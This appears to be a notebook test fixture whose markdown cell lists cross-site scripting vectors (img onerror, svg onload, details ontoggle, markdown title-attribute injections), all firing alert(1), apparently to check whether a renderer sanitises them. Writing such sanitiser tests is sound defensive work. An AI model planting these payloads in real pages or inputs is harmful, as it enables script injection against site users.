# Handlers on pictures, drawings and details that run when the page is shown.
# notebook: quiz
# %% [markdown] extra="q1"
# <img src=x onerror=alert(1)> <svg onload=alert(1)> <svg/onload=alert(1)> <body onload=alert(1)>
# <details open ontoggle=alert(1)> <video><source onerror=alert(1)></video> <input autofocus onfocus=alert(1)>
# <a href="#" onmouseover="alert(1)">x</a> <marquee onstart=alert(1)> <img/src/onerror=alert(1)//
#
# ![x](x "onerror=alert(1)") ![x" onerror="alert(1)](x) [a](# "x' onclick='alert(1)")
#
# `<img src=x onerror=alert(1)>` and **<b onclick=alert(1)>bold</b>**
